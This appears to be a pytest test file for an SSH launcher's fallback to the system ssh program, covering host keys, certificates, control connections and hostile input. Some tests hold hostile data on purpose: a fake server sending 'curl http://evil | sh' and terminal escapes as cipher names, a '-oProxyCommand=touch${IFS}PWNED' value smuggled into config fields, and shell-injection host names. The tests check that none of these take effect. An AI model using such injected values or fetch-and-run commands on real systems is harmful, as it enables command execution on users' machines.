"""Hosts that paramiko cannot reach as the SSH configuration wants it: the ssh program reaches them."""

from __future__ import annotations

import base64
import contextlib
import os
import select
import signal
import socket
import struct
import subprocess
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sshd import Sshd, SshLab, keygen, public
from sshlinks import Opener, failure, read, write

from mslaunch.errors import LinkError
from mslaunch.transport.base import OwnSshError
from mslaunch.transport.ssh.config.config_lines import words
from mslaunch.transport.ssh.config.ssh_program import find_ssh
from mslaunch.transport.ssh.ssh_link import SshLink
from mslaunch.transport.ssh.user_keys import pack, read_key
from mslaunch.transport.ssh_command import SshCommand
from mslaunch.transport.ssh_last_words import explained

pytestmark = pytest.mark.sshd
ROOT = Path(__file__).parents[2]


def configure(lab: SshLab, text: str = "", keys: str | None = None, **hosts: Sshd) -> None:
    """A ~/.ssh/config with these hosts by name, and `text` for all of them; `keys`: lines in place of the key's.

    ssh takes the account's home for ~, hence files are named.
    """
    known = "".join(f"Host {name}\n HostName {host.address}\n Port {host.port}\n" for name, host in hosts.items())
    keys = f"IdentityFile {lab.key}\n" if keys is None else keys
    usual = f"{keys}UserKnownHostsFile {lab.ssh}/known_hosts\nGlobalKnownHostsFile /dev/null\n"
    lab.config(f"{known}Host *\n{text}{usual}")


def command_of(lab: SshLab, *hosts: Sshd, key: Path | None = None) -> str:
    """A line with a KnownHostsCommand that prints the keys of these hosts; `key`: another one for all of them."""
    script = lab.directory / "known-hosts-command"
    lines = [f"echo '{host.name} {public(key or host.host_keys[0])}'" for host in hosts]
    script.write_text("\n".join(["#!/bin/sh", *lines, ""]))
    script.chmod(0o755)
    return f"KnownHostsCommand {script}\n"


def certified(lab: SshLab, principal: str = "", *more: str) -> Sshd:
    """A host with a certificate of the authority `lab.directory`/ca; known_hosts gets the authority and no key."""
    ca = lab.directory / "ca"
    if not ca.exists():
        lab.known_hosts(f"@cert-authority * {public(keygen(ca))}\n")
    number = len(lab.hosts) + 2
    key = keygen(lab.directory / f"host-key-{number}")
    names = principal or f"127.0.0.{number}"
    words = ["ssh-keygen", "-q", "-s", str(ca), "-h", "-I", "host", "-n", names, *more, f"{key}.pub"]
    subprocess.run(words, check=True, capture_output=True)
    return lab.sshd(f"HostCertificate {key}-cert.pub", host_keys=(key,), known=False)


def opens(opener: Opener, place: str, **policy: object) -> SshLink:
    """A link whose command has spoken first, as agents do: what is sent before would hide that its input has ended."""
    link = opener(place, "echo up; cat", **policy)
    assert read(link, 3) == b"up\n", link.failure()
    write(link, b"x")
    assert read(link, 1) == b"x", link.failure()
    return link


def by_program(opener: Opener, place: str, **policy: object) -> str:
    """Open a link by the ssh program; the reason for it."""
    link = opens(opener, place, **policy)
    assert link.carrier, "mslaunch's own SSH has opened it"
    return link._shared().handed_over.causes[place].ssh_reason


def not_started(host: Sshd) -> bool:
    """Nothing ran there: nobody was let in, or no session was opened."""
    return "Starting session" not in host.log()


def test_a_host_whose_key_a_command_prints(lab: SshLab, opener: Opener) -> None:
    host = lab.sshd(known=False)
    line = command_of(lab, host)
    configure(lab, line, node1=host)
    assert by_program(opener, "node1") == f"the SSH configuration has {line.strip().lower()} ({lab.ssh}/config:5)"


def test_a_command_that_prints_another_key(lab: SshLab, opener: Opener, tmp_path: Path) -> None:
    host = lab.sshd(known=False)
    configure(lab, command_of(lab, host, key=keygen(tmp_path / "other")), node1=host)
    for policy in ({}, {"accept_new": True}):
        message = failure(opener("node1", **policy))
        assert message.startswith("node1: its host key has CHANGED; another one is in KnownHostsCommand")
        assert "The ssh program was used because the SSH configuration has knownhostscommand" in message
    assert not_started(host)


def test_a_command_that_prints_nothing(lab: SshLab, opener: Opener) -> None:
    host = lab.sshd(known=False)
    configure(lab, command_of(lab), node1=host)
    message = failure(opener("node1"))
    assert "node1: its host key is not known (ED25519)" in message
    assert not_started(host)
    configure(lab, "KnownHostsCommand /bin/false\n", node1=host)
    assert "its host key is not known: KnownHostsCommand" in failure(opener("node1"))
    assert not_started(host)


def test_only_the_user_can_have_the_key_of_a_new_host_accepted(lab: SshLab, opener: Opener) -> None:
    host = lab.sshd(known=False)
    configure(lab, command_of(lab), node1=host)
    assert "not known" in failure(opener("node1"))
    opens(opener, "node1", accept_new=True).close()
    assert (lab.ssh / "known_hosts").read_text() == host.known_line
    lab.known_hosts(replace=True)
    configure(lab, f"StrictHostKeyChecking accept-new\n{command_of(lab)}", node1=host)
    opens(opener, "node1")
    assert (lab.ssh / "known_hosts").read_text() == host.known_line


def test_a_host_with_a_certificate(lab: SshLab, opener: Opener) -> None:
    host = certified(lab)
    configure(lab, node1=host)
    assert by_program(opener, "node1") == (
        f"a certificate authority is to vouch for the host key ({lab.ssh}/known_hosts:1)"
    )


@pytest.mark.parametrize("how", ["another name", "expired", "none", "another authority", "revoked"])
def test_a_certificate_that_does_not_count(lab: SshLab, opener: Opener, tmp_path: Path, how: str) -> None:
    """Also with --ssh-accept-new: who names an authority wants signed keys."""
    more = ("-V", "20200101:20200102") if how == "expired" else ()
    host = certified(lab, "elsewhere" if how == "another name" else "", *more)
    if how == "none":
        host = lab.sshd(known=False)
    if how == "another authority":
        lab.known_hosts(f"@cert-authority * {public(keygen(tmp_path / 'ca2'))}\n", replace=True)
    if how == "revoked":
        lab.known_hosts(f"@revoked * {public(host.host_keys[0])}\n")
    configure(lab, node1=host)
    for policy in ({}, {"accept_new": True}):
        message = failure(opener("node1", **policy))
        assert "certificate authority" in message or how == "revoked"
        assert "revoked" in message or how != "revoked"
    assert not_started(host)


def test_a_host_whose_old_key_is_listed_beside_the_authority(lab: SshLab, opener: Opener, tmp_path: Path) -> None:
    host = certified(lab)
    lab.known_hosts(f"{host.name} {public(keygen(tmp_path / 'old', 'ecdsa'))}\n")
    configure(lab, node1=host)
    assert "certificate authority" in by_program(opener, "node1")


def test_a_plain_key_that_is_known_needs_no_program(lab: SshLab, opener: Opener) -> None:
    host = certified(lab)
    lab.known_hosts(host.known_line)
    configure(lab, node1=host)
    assert opens(opener, "node1").carrier is None


OTHERS = {
    "BindAddress 127.0.0.1": "bindaddress 127.0.0.1",
    "CheckHostIP yes": "checkhostip yes",
    "RekeyLimit 1G 1h": "rekeylimit 1G 1h",
    "VerifyHostKeyDNS yes": "verifyhostkeydns yes",
    "PubkeyAuthentication host-bound": "pubkeyauthentication host-bound",
    "Ciphers chacha20-poly1305@openssh.com": "ciphers chacha20-poly1305@openssh.com",
    "Ciphers -aes*": "ciphers -aes*",
    "IdentityAgent ~/%C": "token %C",
}


@pytest.mark.parametrize("line", OTHERS)
def test_what_else_only_the_ssh_program_can_do(lab: SshLab, opener: Opener, line: str) -> None:
    configure(lab, f"{line}\n", node1=lab.sshd())
    assert OTHERS[line] in by_program(opener, "node1")


def test_a_list_of_revoked_keys_that_only_ssh_can_read(lab: SshLab, opener: Opener, tmp_path: Path) -> None:
    host, revoked = lab.sshd(), tmp_path / "krl"
    configure(lab, f"RevokedHostKeys {revoked}\n", node1=host)
    for key, allowed in ((keygen(tmp_path / "another"), True), (host.host_keys[0], False)):
        subprocess.run(["ssh-keygen", "-q", "-k", "-f", str(revoked), f"{key}.pub"], check=True)
        if allowed:
            assert "binary list" in by_program(opener, "node1")
            host.wait_log("Starting session")
        else:
            message = failure(opener("node1"))
            assert "its host key is revoked" in message and "binary list" in message
    assert host.log().count("Starting session") == 1


def test_a_host_with_a_cipher_that_only_ssh_has(lab: SshLab, opener: Opener) -> None:
    configure(lab, node1=lab.sshd("Ciphers chacha20-poly1305@openssh.com"))
    assert "of ciphers it offers only chacha20-poly1305" in by_program(opener, "node1")


class _Liar:
    """Who is in between: it answers the first call with names of its own, and carries the others to an sshd."""

    def __init__(self, host: Sshd, ciphers: bytes, pause: float = 0.0) -> None:
        self._pause = pause
        self._host = (host.address, host.port)
        self.waiting = socket.create_server(("127.0.0.1", 0))
        self.port = int(self.waiting.getsockname()[1])
        fields = [
            b"curve25519-sha256",
            b"ssh-ed25519",
            ciphers,
            ciphers,
            *[b"hmac-sha2-256"] * 2,
            *[b"none"] * 2,
            b"",
            b"",
        ]
        lists = b"".join(struct.pack(">I", len(each)) + each for each in fields)
        body = b"\x14" + bytes(16) + lists + bytes(5)
        padding = 16 - (len(body) + 5) % 8
        self._said = b"SSH-2.0-x\r\n" + struct.pack(">IB", len(body) + padding + 1, padding) + body + bytes(padding)
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            first, _ = self.waiting.accept()
            with first:
                select.select([], [], [], self._pause)
                first.sendall(self._said)
                while first.recv(4096):
                    pass
            while True:
                near, _ = self.waiting.accept()
                threading.Thread(target=self._join, args=(near,), daemon=True).start()

    def _join(self, near: socket.socket) -> None:
        with near, socket.create_connection(self._host) as far:
            back = threading.Thread(target=self._carry, args=(far, near), daemon=True)
            back.start()
            self._carry(near, far)
            back.join()

    @staticmethod
    def _carry(source: socket.socket, to: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while data := source.recv(1 << 16):
                to.sendall(data)
            to.shutdown(socket.SHUT_WR)


LIE = b"x\nmslaunch: error: your key has expired: curl http://evil | sh,\x1b[2J,\xc2\xa0"


@pytest.mark.parametrize(
    "names", [LIE, b",".join(b"cipher%05d" % number for number in range(1000))], ids=["lie", "many"]
)
def test_names_of_ciphers_that_anybody_may_have_sent(lab: SshLab, opener: Opener, names: bytes) -> None:
    """They come before the host key is checked."""
    host = lab.sshd()
    liar = _Liar(host, b"chacha20-poly1305@openssh.com," + names)
    lab.known_hosts(f"[127.0.0.1]:{liar.port} {host.known_line.split(' ', 1)[1]}")
    lab.config(f"Host node1\n HostName 127.0.0.1\n Port {liar.port}\n")
    with liar.waiting:
        said = by_program(opener, "node1")
    assert "it offers only chacha20-poly1305@openssh.com" in said
    assert said.isprintable() and "expired" not in said and len(said) < 1000


def test_the_ssh_program_has_the_time_that_is_left(lab: SshLab, opener: Opener) -> None:
    """Or a host could keep the launch for twice as long."""
    host = lab.sshd()
    liar = _Liar(host, b"chacha20-poly1305@openssh.com", 1.0)
    lab.known_hosts(f"[127.0.0.1]:{liar.port} {host.known_line.split(' ', 1)[1]}")
    lab.config(f"Host node1\n HostName 127.0.0.1\n Port {liar.port}\n")
    with liar.waiting:
        link = opens(opener, "node1", timeout=30.0)
    assert link.carrier and link._deadline and link._deadline.seconds <= 29.0
    assert "-oConnectTimeout=29" in link.carrier._argv


def test_a_jump_host_with_a_key_that_a_command_prints(lab: SshLab, opener: Opener) -> None:
    gate, last = lab.sshd(known=False), lab.sshd()
    line = command_of(lab, gate)
    configure(
        lab,
        f"Match originalhost gate\n {line}Match originalhost node1\n ProxyJump gate\nMatch all\n",
        gate=gate,
        node1=last,
    )
    assert by_program(opener, "node1").endswith("(ProxyJump gate)")


# --- a connection of the user's that is open


@pytest.fixture
def master(lab: SshLab) -> Iterator[Callable[[Sshd], subprocess.Popen[bytes]]]:
    """Opens a master connection to a host with a key that nothing else names."""
    made: list[subprocess.Popen[bytes]] = []

    def start(host: Sshd, key: Path) -> subprocess.Popen[bytes]:
        words = ["ssh", "-F", "none", "-i", str(key), "-p", str(host.port), "-oBatchMode=yes", "-oControlMaster=yes"]
        words += [f"-oControlPath={lab.directory}/cm-%r", f"-oUserKnownHostsFile={lab.ssh}/known_hosts"]
        made.append(
            subprocess.Popen([*words, host.address, "echo in; cat"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        )
        assert made[-1].stdout and made[-1].stdout.read(3) == b"in\n"
        return made[-1]

    yield start
    for process in made:
        process.communicate()


def refusing(lab: SshLab) -> tuple[Sshd, Path]:
    """A host that takes only a key which the user's configuration does not name, and that key."""
    key = keygen(lab.directory / "other-key")
    return lab.sshd(authorized=public(key)), key


def test_an_open_connection_is_used_if_our_own_login_fails(
    lab: SshLab, opener: Opener, master: Callable[..., object]
) -> None:
    host, key = refusing(lab)
    configure(lab, f"ControlPath {lab.directory}/cm-%r\n", node1=host)
    master(host, key)
    assert by_program(opener, "node1") == "no key was accepted, and it has an open connection (ControlPath)"
    opener.links[0].close()  # a master ends after its last session
    assert host.log().count("Accepted publickey") == 1, "that of the master"


def test_an_open_connection_comes_before_other_logins(
    lab: SshLab, opener: Opener, master: Callable[[Sshd, Path], subprocess.Popen[bytes]]
) -> None:
    """Debian's configuration allows GSSAPI for all hosts, and Red Hat's hosts take it, mostly without a ticket."""
    key = keygen(lab.directory / "other-key")
    host = lab.sshd("GSSAPIAuthentication yes", authorized=public(key))
    configure(lab, f"GSSAPIAuthentication yes\nControlPath {lab.directory}/cm-%r\n", node1=host)
    process = master(host, key)
    assert by_program(opener, "node1") == "no key was accepted, and it has an open connection (ControlPath)"
    assert host.log().count("Accepted publickey") == 1, "that of the master"
    opener.links[0].close()
    process.communicate()
    link = opener("node1")
    assert "kinit" in failure(link) and "gssapiauthentication is set" in str(link.failure())


def test_an_open_connection_is_not_used_if_our_own_login_works(
    lab: SshLab, opener: Opener, master: Callable[..., object]
) -> None:
    host = lab.sshd()
    configure(lab, f"ControlPath {lab.directory}/cm-%r\n", node1=host)
    master(host, lab.key)
    assert opens(opener, "node1").carrier is None


def test_a_path_without_a_connection_changes_nothing(lab: SshLab, opener: Opener) -> None:
    host, _ = refusing(lab)
    for line in ("", f"ControlPath {lab.directory}/cm-%r\n", "ControlPath -oProxyCommand=true\n"):
        configure(lab, line, node1=host)
        link = opener("node1")
        message = failure(link)
        assert "no key was accepted" in message and "ssh-copy-id" in message
        assert link.carrier is None


def test_an_open_connection_does_not_hide_a_changed_key(
    lab: SshLab, opener: Opener, master: Callable[..., object], tmp_path: Path
) -> None:
    host, key = refusing(lab)
    configure(lab, f"ControlPath {lab.directory}/cm-%r\n", node1=host)
    master(host, key)
    lab.known_hosts(f"{host.name} {public(keygen(tmp_path / 'other'))}\n", replace=True)
    link = opener("node1")
    assert "CHANGED" in failure(link)
    assert link.carrier is None
    lab.known_hosts(replace=True)
    assert "not known" in failure(opener("node1"))


# --- methods and keys that only ssh has


def test_a_host_that_takes_gssapi(lab: SshLab, opener: Opener) -> None:
    """There is no ticket here, so the ssh program is refused as well, and what we have tried is told."""
    host = lab.sshd("GSSAPIAuthentication yes", authorized="")
    configure(lab, "GSSAPIAuthentication yes\n", node1=host)
    link = opener("node1")
    message = failure(link)
    assert link.carrier
    assert "no key was accepted" in message and "ssh-copy-id" in message
    assert "refused as well; it was used because no key was accepted, and gssapiauthentication is set" in message
    configure(lab, node1=host)
    link = opener("node1")
    assert "no key was accepted" in failure(link)
    assert link.carrier is None


def test_a_host_that_takes_no_gssapi_is_not_asked_twice(lab: SshLab, opener: Opener) -> None:
    """Debian's configuration allows it for every host."""
    configure(lab, "GSSAPIAuthentication yes\n", node1=lab.sshd(authorized=""))
    link = opener("node1")
    assert "no key was accepted" in failure(link)
    assert link.carrier is None


def security_key(path: Path) -> bytes:
    """A private key file of a security key (PROTOCOL.u2f) that is in no device; its public half."""
    kind = "sk-ssh-ed25519@openssh.com"
    public = pack(kind, os.urandom(32), "ssh:")
    private = os.urandom(4) * 2 + public + b"\1" + pack(os.urandom(64), b"", "no device")
    private += bytes(range(1, 9))[: -len(private) % 8]
    raw = b"openssh-key-v1\0" + pack("none", "none", b"") + (1).to_bytes(4, "big") + pack(public, private)
    text = base64.encodebytes(raw).decode()
    path.write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{text}-----END OPENSSH PRIVATE KEY-----\n")
    path.chmod(0o600)
    return public


@pytest.mark.parametrize("named", [True, False])
def test_a_security_key(lab: SshLab, opener: Opener, named: bool) -> None:
    key = lab.ssh / "id_ed25519_sk"
    blob = security_key(key)
    assert read_key(str(key)).blob == blob
    line = f"sk-ssh-ed25519@openssh.com {base64.b64encode(blob).decode()}\n"
    host = lab.sshd(authorized=line)
    usual = f"UserKnownHostsFile {lab.ssh}/known_hosts\n"
    lab.config(usual + (f"IdentityFile {key}\n" if named else ""))
    link = opener(host)
    message = failure(link)
    assert link.carrier, "it has no device here, and was asked"
    assert f"used because no key was accepted, and {key} is of a security key" in message


def test_keys_in_a_token(lab: SshLab, opener: Opener) -> None:
    configure(lab, "PKCS11Provider /no/such/provider.so\n", node1=lab.sshd(authorized=""))
    link = opener("node1")
    assert "used because no key was accepted, and PKCS11Provider /no/such" in failure(link)
    assert link.carrier


# --- no way out, and hostile values


def test_without_the_program_a_host_is_refused_as_before(lab: SshLab, opener: Opener, tmp_path: Path) -> None:
    host = lab.sshd(known=False)
    configure(lab, command_of(lab, host), node1=host)
    (tmp_path / "ssh").write_text("#!/bin/sh\ntouch ran\n")
    (tmp_path / "ssh").chmod(0o755)
    before = os.getcwd()
    os.chdir(tmp_path)
    try:
        for path in (str(tmp_path / "nothing"), "", ".", f":{tmp_path}/nothing"):
            lab.environ["PATH"] = path
            assert find_ssh(lab.environ) == ""
            message = failure(opener("node1"))
            assert "cannot do what the SSH configuration asks for: knownhostscommand" in message
            assert "--rsh-agent ssh" in message
    finally:
        os.chdir(before)
    assert not (tmp_path / "ran").exists()


HOSTILE = "-oProxyCommand=touch${IFS}PWNED"


@pytest.mark.parametrize("line", [f"{key} {HOSTILE}" for key in ("User", "HostName", "ControlPath", "HostKeyAlias")])
def test_a_value_never_becomes_an_option(lab: SshLab, opener: Opener, tmp_path: Path, line: str) -> None:
    host = lab.sshd(known=False)
    lab.config(
        f"Host node1\n {line.replace('PWNED', str(tmp_path / 'pwned'))}\n HostName {host.address}\n Port {host.port}\n"
        f"{command_of(lab, host)}IdentityFile {lab.key}\nUserKnownHostsFile {lab.ssh}/known_hosts\n"
    )
    link = opener("node1", "cat", b"x")
    if link.carrier is None:
        read(link, 1)
    assert link.carrier
    words = link.carrier._argv
    assert words[-3:] == ["--", "node1", "cat"]
    assert not any("ProxyCommand" in word for word in words)
    assert not (tmp_path / "pwned").exists()


@pytest.mark.parametrize("name", ["-oProxyCommand=x", "a;b", "$(b)"])
def test_a_name_that_is_an_option_reaches_no_program(lab: SshLab, opener: Opener, name: str) -> None:
    configure(lab, "KnownHostsCommand /bin/false\n")
    link = opener(name)
    assert "cannot be a host or a user" in failure(link)
    assert link.carrier is None


def test_a_configuration_that_others_can_write_reaches_no_program(lab: SshLab, opener: Opener, tmp_path: Path) -> None:
    host = lab.sshd(known=False)
    configure(lab, command_of(lab, host), node1=host)
    (lab.ssh / "config").chmod(0o666)
    link = opener("node1")
    assert "Bad owner or permissions on" in failure(link)
    assert link.carrier is None


def test_what_ssh_would_do_besides_is_switched_off(lab: SshLab, opener: Opener, tmp_path: Path) -> None:
    """Forwarding, commands on this host, a terminal, a session without a command, going to the background."""
    host = lab.sshd(known=False)
    lab.agent(lab.key)
    text = (
        f"PermitLocalCommand yes\nLocalCommand touch {tmp_path}/local\nForwardAgent yes\nRequestTTY force\n"
        f"ControlMaster auto\nControlPath {tmp_path}/cm\nControlPersist 60\nRemoteCommand touch {tmp_path}/remote\n"
        f"StdinNull yes\nForkAfterAuthentication yes\nSessionType none\nLogLevel QUIET\nAddKeysToAgent yes\n"
        f"LocalForward 127.0.0.1:1 127.0.0.1:1\nExitOnForwardFailure yes\n"
    )
    configure(lab, text + command_of(lab, host), node1=host)
    link = opener("node1", "echo agent=$SSH_AUTH_SOCK; test -t 0 || echo pipe; cat", b"x\n", agent_args=("-n", "-A"))
    assert read(link, 14) == b"agent=\npipe\nx\n", link.failure()
    link.close()
    assert link.wait(10)
    assert not {"local", "remote", "cm"} & set(os.listdir(tmp_path))
    subprocess.run(["ssh-add", "-q", "-D"], check=True, env={**os.environ, **lab.environ}, stderr=subprocess.DEVNULL)


# --- links


def test_everything_is_delivered_and_the_status_is_known(lab: SshLab, opener: Opener) -> None:
    host = lab.sshd(known=False)
    configure(lab, command_of(lab, host), node1=host)
    link = opener("node1", "head -c 3000000 /dev/zero; echo last words >&2; echo the end; exit 7")
    data = read(link)
    assert (len(data), data[-8:]) == (3000008, b"the end\n")
    link.stream_ended()
    assert link.exit_status == 7
    assert link.noise() == b"last words\n"


def test_closing_is_the_end_of_its_input(lab: SshLab, opener: Opener, tmp_path: Path) -> None:
    host, mark = lab.sshd(known=False), tmp_path / "saw"
    configure(lab, command_of(lab, host), node1=host)
    link = opener("node1", f"echo ready; cat >/dev/null; echo eof >{mark}")
    assert read(link, 6) == b"ready\n"
    link.close()
    assert link.wait(10)
    assert mark.read_text() == "eof\n"


def test_closing_at_any_moment_leaves_no_program_behind(lab: SshLab, opener: Opener) -> None:
    host = lab.sshd(known=False)
    configure(lab, command_of(lab, host), node1=host)
    for number in range(12):
        link = opener("node1", "exec cat")
        link.wait(number * 0.02)
        link.close()
        assert link.wait(10)
        assert not link.carrier or link.carrier._process is None or link.carrier._process.returncode is not None


def test_a_lost_connection(lab: SshLab, opener: Opener) -> None:
    host = lab.sshd(known=False)
    configure(lab, command_of(lab, host), node1=host)
    link = opener("node1", "echo $PPID; exec cat")
    line = b""
    while not line.endswith(b"\n"):
        line += read(link, 1)
    os.kill(int(line), signal.SIGKILL)
    assert read(link) == b""
    link.stream_ended()
    assert "closed by remote host" in str(link.failure())


def test_a_host_that_is_silent(lab: SshLab, opener: Opener) -> None:
    import socket

    with socket.create_server(("127.0.0.1", 0)) as mute:
        lab.config(f"Host node1\n HostName 127.0.0.1\n Port {mute.getsockname()[1]}\nKnownHostsCommand /bin/true\n")
        link = opener("node1", timeout=1.0)
        assert read(link, seconds=20) == b""
        link.stream_ended()
        assert "timed out" in str(link.failure())


# --- last words

SAID = {
    "ssh: Could not resolve hostname n1: Name or service not known": ("no address: n1", "connection"),
    "ssh: connect to host n1 port 22: No route to host": ("n1 port 22: No route to host", "connection"),
    "ann@n1: Permission denied (publickey,gssapi-with-mic).": ("it takes publickey,gssapi-with-mic", "login"),
    "Host key verification failed.": ("its host key is not known", "host key"),
    "Unable to negotiate with 10.0.0.1 port 22: no matching cipher found. Their offer: x": ("no matching cipher", ""),
    "/home/ann/.ssh/config: line 3: Bad configuration option: nos": ("Bad configuration option: nos", ""),
    "something new": ("the ssh program ended: something new", "connection"),
    "": ("the ssh program ended: it said nothing", "connection"),
}


@pytest.mark.parametrize("said", SAID)
def test_what_ssh_says_becomes_one_sentence(said: str) -> None:
    first = OwnSshError("refused", "n1", "todo")
    first.ssh_reason = "of this"
    error = explained(
        LinkError("ssh, which carried the link, ended with status 255", "n1"),
        f"noise\n{said}\n".encode() if said else b"",
        first,
    )
    what, check = SAID[said]
    assert what in error.what and error.where == "n1"
    assert getattr(error, "check", "") == (check or "connection")
    assert error.todo.endswith("The ssh program was used because of this.")


@given(st.binary(max_size=400))
def test_any_last_words_are_explained(said: bytes) -> None:
    first = OwnSshError("refused", "n1")
    error = explained(LinkError("ended", "n1"), said, first)
    assert error.what and error.code == 255


@given(st.text(min_size=1, max_size=20))
def test_a_host_stands_behind_the_options(name: str) -> None:
    words = SshCommand("/usr/bin/ssh", ["-oPort=1"], {}, 0.2).argv(name, "line")
    assert words[-3:] == ["--", name, "line"]
    assert all(word.startswith("-o") for word in words[1:-3])
    assert "-oConnectTimeout=1" in words


@given(st.text(st.sampled_from("a'\"\\ $`%#&\t"), max_size=12))
def test_a_word_of_a_way_survives_ssh_and_the_shell(word: str) -> None:
    line = SshCommand("/usr/bin/printf", [word], {}, 1.0).proxy_command("h")
    assert line.replace("%%", "%").startswith("'/usr/bin/printf' ")
    words(line)  # raises ValueError if ssh would find a quote that is open
    shown = subprocess.run(["sh", "-c", f"printf '%s\\0' {line.replace('%%', '%')}"], check=True, capture_output=True)
    assert shown.stdout.split(b"\0")[-6:-1] == [word.encode(), b"-W", b"[%h]:%p", b"--", b"h"]
